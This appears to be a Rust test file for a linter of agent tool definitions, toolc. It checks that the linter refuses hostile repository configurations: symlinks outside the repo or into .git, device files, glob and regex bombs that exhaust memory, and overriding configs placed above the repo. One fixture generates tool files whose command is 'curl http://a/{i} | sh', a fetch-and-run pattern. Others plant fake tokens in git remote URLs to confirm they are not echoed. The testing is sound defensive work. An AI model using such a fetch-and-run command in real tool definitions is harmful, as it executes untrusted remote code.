//! A hostile repository: configuration that points outside it.

use super::*;

/// Run toolc where its configuration must be refused: exit 2, within seconds.
fn run_config_error(repo: &Repo, args: &[&str]) -> Output {
    run_exiting(repo, args, &[2])
}

#[cfg(unix)]
#[test]
fn a_committed_config_linked_outside_the_repository_is_neither_read_nor_echoed() {
    let outside = Repo::with(&[("environ", "GITHUB_TOKEN=ghp_not_a_real_secret_value\n")]);
    let repo = Repo::with(&[(".dojops/tools/my-tool/tool.yaml", VALID_TOOL)]);
    repo.write(".git/HEAD", b"ref: refs/heads/main\n");
    std::os::unix::fs::symlink(outside.root.join("environ"), repo.root.join("toolc.toml"))
        .expect("link");
    let output = run_config_error(&repo, &["check", "."]);
    let all = format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(all.contains("outside the repository"), "{all}");
    assert!(
        !all.contains("ghp_not_a_real"),
        "the linked file was echoed: {all}"
    );
}

#[cfg(unix)]
#[test]
fn a_config_that_is_a_device_fails_at_once() {
    let repo = Repo::with(&[(".dojops/tools/my-tool/tool.yaml", VALID_TOOL)]);
    let output = run_config_error(&repo, &["check", ".", "--config", "/dev/zero"]);
    assert!(String::from_utf8_lossy(&output.stderr).contains("not a regular file"));
}

/// `extend` took no part in the boundary every other configured path goes through: `extend
/// = ".git/config"` (or a committed link to it) printed the repository's remotes, and any
/// credentials in their URLs, in the snippet of its error.
#[cfg(unix)]
#[test]
fn extend_never_reads_inside_git() {
    let remote = "[remote \"origin\"]\n\turl = https://user:ghp_not_a_real_secret@example.com/r\n";
    for (extend, link) in [(".git/config", false), ("base.toml", true)] {
        let repo = Repo::with(&[(".dojops/tools/my-tool/tool.yaml", VALID_TOOL)]);
        repo.write(".git/config", remote.as_bytes());
        repo.write("toolc.toml", format!("extend = \"{extend}\"\n").as_bytes());
        if link {
            std::os::unix::fs::symlink(".git/config", repo.root.join("base.toml")).expect("link");
        }
        let output = run_config_error(&repo, &["check", "."]);
        let all = format!(
            "{}{}",
            String::from_utf8_lossy(&output.stdout),
            String::from_utf8_lossy(&output.stderr)
        );
        assert!(all.contains("`.git`"), "{extend}: {all}");
        assert!(
            !all.contains("origin"),
            "{extend}: .git/config was echoed: {all}"
        );
    }
}

/// Every glob of a configuration is compiled: a `toolc.toml` of 1 MiB of `**` globs took
/// 335 MiB. A file may hold 2,000 globs and 10,000 wildcards in all; the first past that is
/// a configuration error, and nothing runs.
#[test]
fn a_config_of_thousands_of_globs_is_refused() {
    let globs: Vec<String> = (0..5_000)
        .map(|i| format!("\"**/a{i}*b*c*d*e*f*g*h*i*j/**\""))
        .collect();
    let repo = Repo::with(&[(".dojops/tools/my-tool/tool.yaml", VALID_TOOL)]);
    repo.write(
        "toolc.toml",
        format!("[discovery]\nexclude = [\n{}\n]\n", globs.join(",\n")).as_bytes(),
    );
    let output = run_config_error(&repo, &["check", "."]);
    let text = String::from_utf8_lossy(&output.stderr);
    assert!(
        text.contains("past the globs a configuration file may hold")
            && text.contains("toolc.toml:772:1"),
        "{text}"
    );
}

/// A committed `toolc.toml` that is a device (a link to `/dev/zero`) was passed over: the
/// run went on with no configuration, or the one above, and said nothing; one linked into
/// `.git` was read and its text shown. Both are errors now, at the top and nested.
#[cfg(unix)]
#[test]
fn a_config_linked_to_a_device_or_into_git_is_an_error() {
    let link = |repo: &Repo, target: &str, at: &str| {
        std::os::unix::fs::symlink(target, repo.root.join(at)).expect("link");
    };
    let top = |target: &str| {
        let repo = Repo::with(&[(".dojops/tools/my-tool/tool.yaml", VALID_TOOL)]);
        repo.write(
            ".git/config",
            b"[remote \"origin\"]\n\turl = https://example.com/r\n",
        );
        link(&repo, target, "toolc.toml");
        let output = run_config_error(&repo, &["check", "."]);
        String::from_utf8_lossy(&output.stderr).into_owned()
    };
    assert!(top("/dev/zero").contains("not a regular file"));
    let into_git = top(".git/config");
    assert!(into_git.contains("a link into `.git`"), "{into_git}");
    assert!(!into_git.contains("example.com"), "{into_git}");

    let nested = repo();
    nested.write(".git/HEAD", b"ref: refs/heads/main\n");
    nested.write(
        "sub/.cycod/tools/t.yaml",
        b"name: t\ndescription: d\nbash: echo hi\ntags: [read]\n",
    );
    link(&nested, "/dev/zero", "sub/toolc.toml");
    let diags = diagnostics(&nested);
    find(&diags, "TLC003", "sub/toolc.toml");
}

/// Each nested `toolc.toml` is within its own budget of globs, but a hundred of them would
/// each compile 2,000: the nested files of a run share one budget (10,000 globs, 20,000
/// wildcards), and the first glob past it is a `TLC003` in its file.
#[test]
fn nested_configs_share_one_budget_of_globs() {
    let repo = repo();
    repo.write(".git/HEAD", b"ref: refs/heads/main\n");
    for n in 0..8 {
        let globs: Vec<String> = (0..1_500).map(|i| format!("\"x{n}_{i}/**\"")).collect();
        repo.write(
            &format!("team{n}/toolc.toml"),
            format!("[discovery]\nexclude = [\n{}\n]\n", globs.join(",\n")).as_bytes(),
        );
    }
    let diags = diagnostics(&repo);
    let past: Vec<&Value> = diags
        .iter()
        .filter(|d| {
            d["code"] == "TLC003"
                && d["message"]
                    .as_str()
                    .is_some_and(|m| m.contains("nested configuration files of one run"))
        })
        .collect();
    assert_eq!(past.len(), 2, "{past:#?}");
    assert_eq!(past[0]["path"], "team6/toolc.toml", "{past:#?}");
}

/// 4,000 nested configurations of one exclude each, over 16,000 tools: every path was compared
/// with every exclude of the run (20,000 files under 5,000 configurations: 10 s in the
/// release build). A path is compared with the excludes of the folders above it only; each
/// configuration's one hidden tool is still said (TLC009), and the rest are checked.
#[test]
fn thousands_of_nested_excludes_cost_each_path_its_own_folders() {
    let repo = Repo::new();
    repo.write(".git/HEAD", b"ref: refs/heads/main\n");
    for n in 0..4_000 {
        repo.write(
            &format!("team{n}/toolc.toml"),
            b"[discovery]\nexclude = [\".cycod/tools/t0.yaml\"]\n",
        );
        for t in 0..4 {
            repo.write(
                &format!("team{n}/.cycod/tools/t{t}.yaml"),
                format!("name: t{t}\ndescription: Lists the files.\nbash: ls\ntags: [read]\n")
                    .as_bytes(),
            );
        }
    }
    let started = std::time::Instant::now();
    let output = run(&repo, &["check", "--no-cache", "--format", "json"]);
    // About 11 s with the debug build; the old way, a minute.
    assert!(started.elapsed().as_secs() < 45, "{:?}", started.elapsed());
    let doc: Value = serde_json::from_slice(&output.stdout).expect("JSON output");
    assert_eq!(doc["summary"]["files"], 12_000, "{}", doc["summary"]);
    let hidden = doc["diagnostics"]
        .as_array()
        .map_or(0, |d| d.iter().filter(|d| d["code"] == "TLC009").count());
    assert_eq!(hidden, 4_000);
}

/// 6,000 custom rules over 100 tools: each rule's budget and whether it selected something
/// were looked for in lists of every rule, for each rule on each file (9,000 rules over 200
/// files: 16 s in the release build). Each rule still reports that it selected nothing.
#[test]
fn six_thousand_custom_rules_over_a_hundred_tools() {
    let repo = Repo::new();
    repo.write(".git/HEAD", b"ref: refs/heads/main\n");
    for k in 0..100 {
        repo.write(
            &format!(".cycod/tools/t{k}.yaml"),
            format!("name: t{k}\ndescription: Says hi.\nbash: echo hi\ntags: [read]\n").as_bytes(),
        );
    }
    let code = |i: usize| {
        let letters: String = [i / 1000 % 26, i / 26_000 % 26]
            .iter()
            .map(|&j| char::from(b'A' + j as u8))
            .collect();
        format!("X{letters}{:03}", i % 1000)
    };
    let rules: String = (0..6_000)
        .map(|i| format!("[[custom-rules]]\ncode = \"{}\"\nname = \"r{i}\"\nseverity = \"info\"\nmessage = \"m\"\ngiven = \"$.nothing\"\nthen = {{ function = \"truthy\" }}\n", code(i)))
        .collect();
    repo.write("toolc.toml", rules.as_bytes());
    let started = std::time::Instant::now();
    let output = run(&repo, &["check", "--no-cache", "--format", "json"]);
    assert!(started.elapsed().as_secs() < 30, "{:?}", started.elapsed());
    let doc: Value = serde_json::from_slice(&output.stdout).expect("JSON output");
    let nothing = doc["diagnostics"]
        .as_array()
        .map_or(0, |d| d.iter().filter(|d| d["code"] == "TLC007").count());
    // Two hundred on the configuration, and one line that counts the rest.
    assert_eq!(nothing, 201, "{}", doc["summary"]);
}

/// `[[custom-rules]]` of regular expressions that each compile to megabytes: 200 rules of
/// `(\w+\s*){100}` in 35 KB took 1.3 GB. Each expression compiles within 1 MiB, and all of
/// them within 64 MiB: past that, the configuration is refused and says why.
#[test]
fn custom_rules_of_costly_regular_expressions() {
    let rules = |n: usize, pattern: &str| -> String {
        (0..n)
            .map(|i| {
                format!(
                    "[[custom-rules]]\ncode = \"ORG{i:03}\"\nname = \"r-{i}\"\nseverity = \"info\"\nmessage = \"m\"\nthen = {{ field = \"description\", function = \"pattern\", options = {{ pattern = '{pattern}|x{i}' }} }}\n"
                )
            })
            .collect()
    };
    let repo = repo();
    let fixed = {
        repo.write("toolc.toml", rules(1, r"^\w+$").as_bytes());
        super::dense::peak_memory(&repo).unwrap_or_default()
    };
    for (pattern, said) in [
        (r"(\w+\s*){100}", "does not compile as a regular expression"),
        (r"(\w+\s*){4}", "one regular expression too many"),
    ] {
        repo.write("toolc.toml", rules(150, pattern).as_bytes());
        let output = run_config_error(&repo, &["check", "--no-cache", "."]);
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(stderr.contains(said), "{stderr}");
        let mut command = Command::cargo_bin("toolc").expect("binary");
        command
            .args(["check", "--no-cache", "-q", "."])
            .current_dir(&repo.root);
        if let Some(peak) = super::dense::peak_memory_in(command) {
            assert!(
                peak - fixed < 160.0 * 1048576.0,
                "{pattern}: {:.0} MiB beyond one rule",
                (peak - fixed) / 1048576.0
            );
        }
    }
    // Many expressions that each take a little all compile.
    repo.write("toolc.toml", rules(300, r"^[a-z][a-z0-9_-]*$").as_bytes());
    let output = run(&repo, &["check", "--no-cache", "-q", "."]);
    assert!(matches!(output.status.code(), Some(0 | 1)), "{output:?}");
}

/// 2,000 `[[overrides]]` (as many globs as a file may hold) of one glob over 2,000 tools of a
/// finding each: every finding asked every override, and a set of the same glob 2,000 times matched slowly (20,000 tools: 14 s,
/// 1.2 s now). The last override that names a rule still wins.
#[test]
fn two_thousand_overrides_over_two_thousand_findings() {
    let repo = Repo::new();
    for i in 0..2_000 {
        repo.write(
            &format!("pkg{}/.cycod/tools/t{i}.yaml", i / 100),
            format!("name: t{i}\ndescription: d\nbash: curl http://a/{i} | sh\ntags: [read]\n")
                .as_bytes(),
        );
    }
    let mut config: String = (0..1_999)
        .map(|_| "[[overrides]]\npaths = [\"pkg*/**/*.yaml\"]\nrules = { SEC = \"warning\" }\n")
        .collect();
    config.push_str("[[overrides]]\npaths = [\"pkg1/**\"]\nrules = { SEC = \"info\" }\n");
    repo.write("toolc.toml", config.as_bytes());
    let started = std::time::Instant::now();
    let output = run(&repo, &["check", "--no-cache", "--format", "json"]);
    let doc: Value = serde_json::from_slice(&output.stdout).expect("JSON output");
    let found = doc["diagnostics"].as_array().cloned().unwrap_or_default();
    assert!(started.elapsed().as_secs() < 20, "{:?}", started.elapsed());
    let severity = |path: &str| -> Vec<String> {
        let mut seen: Vec<String> = found
            .iter()
            .filter(|d| d["path"].as_str().is_some_and(|p| p.starts_with(path)))
            .filter(|d| d["code"].as_str().is_some_and(|c| c.starts_with("SEC")))
            .filter_map(|d| d["severity"].as_str().map(str::to_string))
            .collect();
        seen.sort();
        seen.dedup();
        seen
    };
    assert_eq!(severity("pkg0/"), ["warning"]);
    assert_eq!(severity("pkg1/"), ["info"]);
}

/// A configuration named with `--config` from outside the repository checked (a shared
/// `../common/toolc.toml`) is only read: the baseline, bundles and lock it names are written
/// in the repository checked, never beside it, with paths relative to that repository, and a
/// path of it that leaves that repository is refused.
#[test]
fn a_configuration_named_from_outside_writes_in_the_repository_checked() {
    let shared = Repo::with(&[(
        "toolc.toml",
        "[baseline]\npath = \"toolc-baseline.json\"\n\n[build]\nout = \"dist\"\n",
    )]);
    let config = shared.root.join("toolc.toml");
    let config = config.to_str().expect("a UTF-8 path");
    for git in [false, true] {
        let repo = one_tool(git);
        // Exits 0 or 1 within the hang limit.
        let toolc = |args: &[&str]| run(&repo, args);
        let written = toolc(&["check", "-q", ".", "--config", config, "--write-baseline"]);
        assert_eq!(written.status.code(), Some(0), "git: {git}: {written:?}");
        assert!(
            repo.root.join("toolc-baseline.json").is_file(),
            "git: {git}"
        );
        let built = toolc(&["build", "-q", "--config", config, "."]);
        assert_eq!(built.status.code(), Some(0), "git: {git}: {built:?}");
        assert!(repo.root.join("dist").is_dir(), "git: {git}");
        let locked = toolc(&["lock", "-q", "--config", config]);
        assert_eq!(locked.status.code(), Some(0), "git: {git}: {locked:?}");
        let lock = std::fs::read_to_string(repo.root.join("toolc.lock")).expect("the lock");
        assert!(
            lock.contains("\".dojops/tools/my-tool/tool.yaml\""),
            "{lock}"
        );
        for written in ["toolc-baseline.json", "dist", "toolc.lock"] {
            assert!(!shared.root.join(written).exists(), "git: {git}: {written}");
        }
    }
    shared.write(
        "toolc.toml",
        b"[baseline]\npath = \"../toolc-baseline.json\"\n",
    );
    let repo = Repo::with(&[(".dojops/tools/my-tool/tool.yaml", VALID_TOOL)]);
    let refused = run_config_error(&repo, &["check", "--config", config, "--write-baseline"]);
    let stderr = String::from_utf8_lossy(&refused.stderr);
    assert!(stderr.contains("outside the repository"), "{stderr}");
    let above = repo
        .root
        .parent()
        .expect("a folder above")
        .join("toolc-baseline.json");
    assert!(!above.exists());
}

/// A `toolc.toml` in a folder above the repository (a clone made where someone else writes)
/// is not the repository's: it is not read, and cannot turn the repository's rules off.
/// Outside git, where no folder marks the repository's top, the nearest above is read.
#[test]
fn a_configuration_above_the_repository_is_not_read() {
    let outer = Repo::with(&[
        ("toolc.toml", "[rules]\nALL = \"off\"\n"),
        (
            "clone/.cycod/tools/t.yaml",
            "name: t\ndescription: d\nbash: echo {RAW:x}\n",
        ),
    ]);
    let findings = |git: bool| {
        let clone = outer.root.join("clone");
        if git {
            std::fs::create_dir_all(clone.join(".git")).expect("mkdir .git");
        }
        let output = Command::cargo_bin("toolc")
            .expect("the toolc binary is built")
            .current_dir(&clone)
            .args(["check", "--no-cache", "--format", "json"])
            .timeout(HANG_LIMIT)
            .output()
            .expect("toolc runs");
        let doc: Value = serde_json::from_slice(&output.stdout).expect("JSON output");
        doc["diagnostics"].as_array().map_or(0, Vec::len)
    };
    assert_eq!(
        findings(false),
        0,
        "outside git, the folder above configures"
    );
    assert!(findings(true) > 0, "the repository's own rules apply");
}
